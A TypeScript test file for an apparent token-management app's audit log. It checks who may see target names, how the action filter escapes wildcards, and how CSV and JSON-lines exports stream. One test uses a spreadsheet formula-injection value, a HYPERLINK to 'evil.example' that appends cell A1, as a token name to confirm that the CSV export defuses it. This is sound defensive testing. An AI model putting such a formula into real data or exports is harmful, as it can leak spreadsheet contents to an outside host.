import type { AuditEvent } from '@tokendesk/shared/schemas/audit'
import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import { auditEvents, invites } from '../../db/schema'
import { type AuditInput, recordAudit } from '../../services/audit'
import {
  createAgent,
  errorOf,
  insertTokenRow,
  seedUser,
  serveTestApp,
  signedIn,
} from '../../test/test-app'

let t: Awaited<ReturnType<typeof serveTestApp>>
let ids: Record<'ann' | 'bob' | 'admin', string>
beforeEach(async () => {
  t = await serveTestApp()
  ids = {
    ann: (await seedUser(t, { email: 'ann@example.com', name: 'Ann' })).id,
    bob: (await seedUser(t, { email: 'bob@example.com', name: 'Bob' })).id,
    admin: (await seedUser(t, { email: 'admin@example.com', name: 'Ada', role: 'admin' })).id,
  }
})
afterEach(() => t.stop())

type Agent = Awaited<ReturnType<typeof signedIn>>

const audit = async (agent: Agent, query: Record<string, string> = {}) => {
  const res = await agent.api.audit.$get({ query })
  expect(res.status).toBe(200)
  return (await res.json()).items as AuditEvent[]
}

const record = (e: Partial<AuditInput> & { action: string }) =>
  t.write((tx) => recordAudit(tx, { at: t.clock(), actorId: null, ...e }))

/** Over real HTTP: the export is a stream, and node-server is what writes it. */
const download = (agent: Agent, query: string) =>
  fetch(`${t.url}/api/audit/export?${query}`, {
    headers: { cookie: [...agent.jar].map(([k, v]) => `${k}=${v}`).join('; ') },
  })

/** RFC 4180 rows, enough for these files (quoted cells, doubled quotes, CRLF). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = []
  let row: string[] = []
  let cell = ''
  let quoted = false
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        cell += '"'
        i++
      } else if (ch === '"') quoted = false
      else cell += ch
    } else if (ch === '"') quoted = true
    else if (ch === ',') {
      row.push(cell)
      cell = ''
    } else if (ch === '\r' && text[i + 1] === '\n') {
      row.push(cell)
      rows.push(row)
      row = []
      cell = ''
      i++
    } else cell += ch
  }
  return rows
}

describe('GET /api/audit names what it shows', () => {
  it('names tokens, bot keys and the bot key that fetched a token', async () => {
    const ann = await signedIn(t, 'ann@example.com')
    const tokenId = await insertTokenRow(t, ids.ann, 'Deploy bot', 'personal', null)
    const shared = await ann.api.tokens[':id'].shares.$post({
      param: { id: tokenId },
      json: { email: 'bob@example.com', access: 'use' },
    })
    expect(shared.status).toBe(201)
    const created = await ann.api['bot-keys'].$post({
      json: { name: 'ci-key', tokenIds: [tokenId] },
    })
    expect(created.status).toBe(201)
    const { id: keyId, key } = await created.json()
    const fetched = await fetch(`${t.url}/api/v1/tokens/${tokenId}/access`, {
      headers: { authorization: `Bearer ${key}` },
    })
    expect(fetched.status).toBe(200)
    await t.flushUsage()

    const items = await audit(ann)
    const by = (action: string) => items.find((e) => e.action === action)
    expect(by('token.share_added')).toMatchObject({
      targetType: 'token',
      targetId: tokenId,
      targetName: 'Deploy bot',
      actorName: 'Ann',
    })
    expect(by('bot_key.created')).toMatchObject({ targetId: keyId, targetName: 'ci-key' })
    expect(by('bot.access')).toMatchObject({
      actorType: 'bot_key',
      actorId: keyId,
      actorName: 'ci-key',
      targetName: 'Deploy bot',
    })
  })

  it('names the person an admin added, to the admin and to that person', async () => {
    const admin = await signedIn(t, 'admin@example.com')
    const res = await admin.api.users.$post({
      json: { email: 'cy@example.com', name: 'Cy', password: 'cy password 1234', role: 'owner' },
    })
    expect(res.status).toBe(201)
    expect((await audit(admin, { action: 'user.created' }))[0]).toMatchObject({
      targetType: 'user',
      targetName: 'Cy',
      actorName: 'Ada',
    })
    const cy = await signedIn(t, 'cy@example.com', 'cy password 1234')
    expect((await audit(cy, { action: 'user.created' }))[0]?.targetName).toBe('Cy')
  })

  it('keeps names of things the viewer cannot see now to itself', async () => {
    // Events in Ann's log about things that are not (or no longer) hers: a token given to Bob
    // and renamed since, Bob's bot key, Bob himself, a deleted token.
    const bobsToken = await insertTokenRow(t, ids.bob, 'Bob secret plan', 'personal', null)
    const bob = await signedIn(t, 'bob@example.com')
    const key = await bob.api['bot-keys'].$post({
      json: { name: 'bob-private-key', tokenIds: [bobsToken] },
    })
    const bobsKey = (await key.json()).id
    await record({
      action: 'token.share_added',
      targetType: 'token',
      targetId: bobsToken,
      ownerId: ids.ann,
    })
    await record({
      action: 'bot_key.created',
      targetType: 'bot_key',
      targetId: bobsKey,
      ownerId: ids.ann,
    })
    await record({
      action: 'user.updated',
      targetType: 'user',
      targetId: ids.bob,
      ownerId: ids.ann,
    })
    await record({
      action: 'token.deleted',
      targetType: 'token',
      targetId: 'gone',
      ownerId: ids.ann,
    })

    const ann = await signedIn(t, 'ann@example.com')
    const items = (await audit(ann)).filter((e) => e.action !== 'auth.login')
    expect(items.map((e) => [e.action, e.targetName])).toEqual([
      ['token.deleted', null],
      ['user.updated', null],
      ['bot_key.created', null],
      ['token.share_added', null],
    ])
    const text = JSON.stringify(items)
    expect(text).not.toContain('Bob secret plan')
    expect(text).not.toContain('bob-private-key')

    // A sharee may see the label: the token is theirs to see.
    await bob.api.tokens[':id'].shares.$post({
      param: { id: bobsToken },
      json: { email: 'ann@example.com', access: 'view' },
    })
    const after = await audit(ann, { action: 'token.share_added' })
    expect(after.find((e) => e.ownerId === ids.ann)?.targetName).toBe('Bob secret plan')
    // And an admin sees every name.
    const admin = await signedIn(t, 'admin@example.com')
    const all = await audit(admin, { action: 'bot_key.created' })
    expect(all.map((e) => e.targetName)).toContain('bob-private-key')
  })
})

describe('GET /api/audit names an invite', () => {
  it('to admins only', async () => {
    await t.write((tx) =>
      tx.insert(invites).values({
        id: 'inv1',
        tokenHash: 'h',
        email: 'ivy@example.com',
        name: 'Ivy',
        role: 'owner',
        createdBy: ids.admin,
        createdAt: t.clock(),
        expiresAt: t.clock() + 86_400_000,
      }),
    )
    await record({
      action: 'invite.created',
      actorId: ids.admin,
      targetType: 'invite',
      targetId: 'inv1',
    })
    // The same event as if it were in Ann's log: she may not learn whom the admin invited.
    await record({
      action: 'invite.created',
      targetType: 'invite',
      targetId: 'inv1',
      ownerId: ids.ann,
    })
    const admin = await signedIn(t, 'admin@example.com')
    const seen = await audit(admin, { action: 'invite.' })
    expect(seen.map((e) => e.targetName)).toEqual(['Ivy', 'Ivy'])
    const ann = await signedIn(t, 'ann@example.com')
    expect((await audit(ann, { action: 'invite.' })).map((e) => e.targetName)).toEqual([null])
  })
})

describe('the action filter', () => {
  it('matches `_` and `%` as themselves, not as wildcards', async () => {
    for (const action of ['token.share_added', 'token.sharexadded', 'token.share_removed'])
      await record({ action, ownerId: ids.ann })
    const ann = await signedIn(t, 'ann@example.com')
    const actions = async (action: string) => (await audit(ann, { action })).map((e) => e.action)
    expect(await actions('token.share_added')).toEqual(['token.share_added'])
    expect(await actions('token.share_')).toEqual(['token.share_removed', 'token.share_added'])
    expect(await actions('TOKEN.SHARE_ADDED')).toEqual(['token.share_added'])
    expect(await actions('token.%')).toEqual([])
    expect(await actions('token.')).toHaveLength(3)
  })
})

describe('GET /api/audit/export', () => {
  /** Ids are random base64url: one in 64 starts with '-', and the export defuses every such cell. */
  const asCell = (id: string) => (id.startsWith('-') ? `'${id}` : id)

  it('streams the filtered log as CSV, with formula cells defused', async () => {
    const evil = '=HYPERLINK("https://evil.example/?"&A1,"click")'
    const tokenId = await insertTokenRow(t, ids.ann, evil, 'personal', null)
    await record({
      action: 'token.revealed',
      actorId: ids.ann,
      targetType: 'token',
      targetId: tokenId,
      ownerId: ids.ann,
      ip: '203.0.113.9',
      userAgent:
        'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36',
      detail: { note: '@SUM(1)' },
    })
    await record({ action: 'auth.login', actorId: ids.bob, ownerId: ids.bob })
    const ann = await signedIn(t, 'ann@example.com')

    const res = await download(ann, 'format=csv&action=token.')
    expect(res.status).toBe(200)
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8')
    expect(res.headers.get('content-disposition')).toBe(
      `attachment; filename="tokendesk-audit-${new Date(t.clock()).toISOString().slice(0, 10)}.csv"`,
    )
    expect(res.headers.get('cache-control')).toBe('no-store')
    const text = await res.text()
    const [header, ...rows] = parseCsv(text)
    expect(header).toEqual([
      'id',
      'at',
      'action',
      'what',
      'actor',
      'actor_type',
      'actor_id',
      'actor_email',
      'target_type',
      'target_id',
      'target_name',
      'ip',
      'client',
      'user_agent',
      'detail',
    ])
    expect(rows).toHaveLength(1)
    const row = Object.fromEntries((header ?? []).map((h, i) => [h, rows[0]?.[i]]))
    expect(row).toMatchObject({
      action: 'token.revealed',
      what: 'Token value revealed',
      actor: 'Ann',
      actor_email: 'ann@example.com',
      target_id: asCell(tokenId),
      target_name: `'${evil}`,
      ip: '203.0.113.9',
      client: 'Chrome on Linux',
      detail: '{"note":"@SUM(1)"}',
    })
    // The raw text: the label is one quoted cell that starts with an apostrophe.
    expect(text).toContain(`"'=HYPERLINK(""https://evil.example/?""&A1,""click"")"`)
    // Only Ann's events: her own sign-in, not Bob's.
    const logins = parseCsv(await (await download(ann, 'format=csv&action=auth.')).text())
    expect(logins.slice(1).map((r) => [r[2], r[6]])).toEqual([['auth.login', asCell(ids.ann)]])
  })

  it('exports JSON lines, every page of a long log, newest first', async () => {
    const rows = Array.from({ length: 1203 }, (_, i) => ({
      at: t.clock() + i,
      actorId: ids.ann,
      actorType: 'person' as const,
      action: i % 2 ? 'token.copied' : 'token.revealed',
      ownerId: ids.ann,
    }))
    await t.write(async (tx) => {
      for (let i = 0; i < rows.length; i += 300)
        await tx.insert(auditEvents).values(rows.slice(i, i + 300))
    })
    const ann = await signedIn(t, 'ann@example.com')
    const res = await download(ann, 'format=jsonl')
    expect(res.status).toBe(200)
    expect(res.headers.get('content-type')).toBe('application/x-ndjson; charset=utf-8')
    expect(res.headers.get('content-disposition')).toMatch(/filename="tokendesk-audit-.*\.jsonl"/)
    const lines = (await res.text()).split('\n')
    expect(lines.pop()).toBe('')
    const events = lines.map((l) => JSON.parse(l) as AuditEvent & { what: string; actor: string })
    // 1203 seeded plus Ann's sign-in.
    expect(events).toHaveLength(1204)
    expect(events[0]).toMatchObject({ action: 'auth.login', what: 'Signed in', actor: 'Ann' })
    const order = events.map((e) => e.id)
    expect(order).toEqual([...order].sort((a, b) => b - a))
    expect(new Set(order).size).toBe(order.length)

    const copied = (await (await download(ann, 'format=jsonl&action=token.copied')).text())
      .trim()
      .split('\n')
    expect(copied).toHaveLength(601)
  })

  it('refuses a bad format or range with 400, and a stranger with 401', async () => {
    const ann = await signedIn(t, 'ann@example.com')
    const bad = await download(ann, 'format=xlsx')
    expect(bad.status).toBe(400)
    expect((await errorOf(bad)).code).toBe('validation_failed')
    expect((await download(ann, 'format=csv&from=yesterday')).status).toBe(400)
    const stranger = await download(createAgent(t.app), 'format=csv')
    expect(stranger.status).toBe(401)
  })
})
